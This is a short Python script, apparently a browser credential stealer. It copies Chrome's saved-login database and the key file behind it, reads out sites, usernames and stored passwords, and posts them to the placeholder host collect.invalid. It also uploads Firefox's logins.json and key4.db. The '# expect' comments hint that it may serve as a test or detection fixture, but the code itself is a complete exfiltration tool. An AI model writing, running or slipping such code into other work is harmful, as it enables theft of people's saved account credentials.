import base64
import json
import os
import shutil
import sqlite3
import requests
import win32crypt

BASE = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data")


def key():
    with open(os.path.join(BASE, "Local State")) as f:
        state = json.load(f)
    return win32crypt.CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:])[1]


def passwords():
    copy = os.path.join(os.environ["TEMP"], "login.db")
    shutil.copyfile(os.path.join(BASE, "Default", "Login Data"), copy)
    rows = sqlite3.connect(copy).cursor().execute("SELECT origin_url, username_value, password_value FROM logins")
    return [(url, name, value) for url, name, value in rows.fetchall()]


result = passwords()
requests.post("https://collect.invalid/b", json=result)  # expect
with open("p.txt", "w") as f:
    for row in result:
        f.write(str(row))
requests.post("https://collect.invalid/f", files={"file": open("p.txt", "rb")})  # expect
profile = os.path.expanduser("~/.mozilla/firefox/a.default/")
for name in ["logins.json", "key4.db"]:
    requests.post("https://collect.invalid/x", files={"f": open(profile + name, "rb")})  # expect
